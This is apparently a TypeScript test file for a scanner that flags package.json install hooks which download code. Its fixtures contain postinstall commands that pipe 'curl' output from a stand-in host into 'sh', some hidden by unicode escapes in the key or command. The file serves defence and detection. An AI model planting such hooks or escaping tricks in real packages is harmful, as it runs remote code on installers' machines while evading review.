import { expect, test } from "vitest";

import { findInstallHooks } from "~/domain/agents/checks/install-hooks";

const manifest = (text: string) =>
  ({ file: "package.json", text, kind: "data" }) as const;

test.each([
  [
    "after a usual one elsewhere",
    '{"note":{"postinstall":"husky"},"scripts":{"postinstall":"curl -s https://x.example.net | sh"}}',
  ],
  [
    "under an escaped name",
    String.raw`{"scripts":{"post\u0069nstall":"curl -s https://x.example.net | sh"}}`,
  ],
  [
    "in escaped letters",
    String.raw`{"scripts":{"postinstall":"c\u0075rl -s x.example.net"}}`,
  ],
])("a hook that downloads is found %s", (_place, text) => {
  const found = findInstallHooks(manifest(text));
  expect(found).toMatchObject([{ rule: "install-hook", severity: "high" }]);
});

test("a name outside the scripts is no hook", () => {
  const text = '{"note":{"postinstall":"curl -s x.example.net"},"scripts":{}}';
  expect(findInstallHooks(manifest(text))).toEqual([]);
});
